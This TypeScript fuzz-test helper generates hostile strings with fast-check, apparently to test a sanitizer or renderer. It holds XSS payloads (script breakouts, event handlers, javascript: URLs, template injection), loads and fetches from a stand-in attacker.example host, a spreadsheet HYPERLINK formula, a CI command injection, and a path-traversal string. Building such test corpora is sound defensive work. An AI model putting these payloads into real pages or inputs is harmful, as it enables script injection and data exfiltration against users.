import fc from "fast-check";

/** Orders to a browser, each of which would leave a trace if it were obeyed. */
const ACTS = [
  "alert(1)",
  "globalThis.owned=1",
  "fetch('https://attacker.example/x')",
  "document.title='owned'",
];

/** Ways into markup, by shape: ACT stands where the order goes. */
const SHAPES = [
  "</script><script>ACT</script>",
  "</ScRiPt \n><script>ACT</script>",
  "<!--<script>ACT</script>-->",
  "<img src=x onerror=ACT>",
  "<img src=https://attacker.example/pixel>",
  '"><svg onload=ACT>',
  "'><iframe srcdoc='<script>ACT</script>'>",
  "<a href=javascript:ACT>here</a>",
  "[here](javascript:ACT)",
  "![p](https://attacker.example/p.png)",
  "<style>@import 'https://attacker.example/s.css'</style>",
  "<link rel=stylesheet href=https://attacker.example/l.css>",
  "<base href=https://attacker.example/>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
  "<form action=https://attacker.example><input autofocus onfocus=ACT>",
  "{{constructor.constructor('ACT')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is text
  "${ACT}",
  "javascript:ACT",
  "data:text/html,<script>ACT</script>",
  "]]><script>ACT</script>",
  "\u2028ACT\u2029",
  "\u202eACT\u202c",
  "\u0000<script>ACT</script>",
  "&lt;script&gt;ACT&lt;/script&gt;",
  "\\u003cscript\\u003eACT",
  '=HYPERLINK("https://attacker.example")',
  "::error::ACT",
  "../../etc/passwd",
  "__proto__",
  "constructor",
  "toString",
  "\ud800ACT",
];

/** Every shape with one order, then shapes put together by chance; the same for the same seed. */
export function hostileTexts(generated: number, seed: number): string[] {
  const filled = fc
    .tuple(fc.constantFrom(...SHAPES), fc.constantFrom(...ACTS))
    .map(([shape, act]) => shape.replaceAll("ACT", act));
  const mixed = fc
    .array(
      fc.oneof({ weight: 3, arbitrary: filled }, fc.string({ unit: "binary", maxLength: 8 })),
      {
        minLength: 1,
        maxLength: 4,
      },
    )
    .map((parts) => parts.join(""));
  return [
    ...SHAPES.map((shape, index) => shape.replaceAll("ACT", ACTS[index % ACTS.length] ?? "")),
    ...fc.sample(mixed, { numRuns: generated, seed }),
  ];
}
